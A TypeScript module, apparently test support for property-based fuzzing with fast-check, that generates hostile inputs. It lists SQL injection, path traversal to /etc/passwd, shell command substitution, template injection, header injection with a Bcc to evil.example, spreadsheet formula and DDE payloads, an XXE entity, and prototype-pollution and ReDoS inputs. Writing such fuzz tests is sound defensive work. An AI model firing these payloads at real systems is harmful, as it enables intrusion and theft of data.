import fc from 'fast-check'
import { hostileHtml } from '../hostile-html.ts'

/** What has broken out of queries, shells, paths, headers, templates, drawings and spreadsheets elsewhere. */
const injectionStrings = [
  `' or 1=1 --`,
  `'; drop table consents; --`,
  `1) union select password from auth."account" --`,
  `\\'; select pg_sleep(9); --`,
  `%' and (select 1/0) is null --`,
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd\u0000.png',
  'file:///etc/passwd',
  'C:\\nul',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '%s%s%n%x',
  '{{constructor.constructor("return process")()}}',
  '${7*7}#{7*7}<%= 7*7 %>',
  '#read("/etc/passwd")',
  '#eval("1 + 1") $ sum $ @label <label>',
  'Eleanor\r\nBcc: everybody@evil.example\r\n\r\nHello',
  'Eleanor\nSet-Cookie: candour.session=stolen',
  '=HYPERLINK("https://evil.example","a")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '(/JS (app.alert\\(1\\)) /S /JavaScript) Tj ET endstream endobj',
  'javascript:alert(1)',
  '//evil.example/a',
  '__proto__',
  'constructor',
  '\u202Egnp.exe',
  '\u2066hidden\u2069',
  '\u0000',
  'a\u0000b',
  '\u001B[2J',
  '\uFEFF\u200B\u200D',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}',
  'ﷺ'.repeat(40),
  'İıſK',
  '\uFFFE\uFFFF',
  '👨'.slice(0, 1),
  '0x41414141',
  '１２３',
  '9'.repeat(400),
  '-0',
  'NaN',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '9999-12-31',
  '0000-00-00',
  '2024-02-30',
  '-000001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '00000000-0000-0000-0000-000000000000',
]

const long = fc.constantFrom(300, 5000, 30_000).map((length) => 'A'.repeat(length))
/** A regular expression that backtracks would be lost in these. */
const backtracking = fc
  .constantFrom(' ', 'a', '0', '-', '.', '/', '@', '\t', '\n', 'a@')
  .map((part) => `${part.repeat(4000)}!`)

/** Text as nobody would type it who meant well. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...injectionStrings) },
  { weight: 3, arbitrary: fc.constantFrom(...hostileHtml) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 1, arbitrary: long },
  { weight: 1, arbitrary: backtracking },
)

const hostileNumber = fc.constantFrom(
  ...[0, -0, -1, 0.1, 1e308, -1e308, 1e-320, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, -(2 ** 53), 65_536, 1e21],
)

/** Own properties that a careless merge would take for the prototype's. */
const prototypePollution = JSON.parse(
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}}}',
) as object

const deeplyNested = (depth: number): unknown => (depth === 0 ? 'end' : { a: [deeplyNested(depth - 1)] })

/** Anything that JSON can say, in place of what was asked for. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileText },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, {}, [], '', [[]], [null], { $ne: null }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      prototypePollution,
      deeplyNested(200),
      Array.from({ length: 3000 }, () => 0),
    ),
  },
)
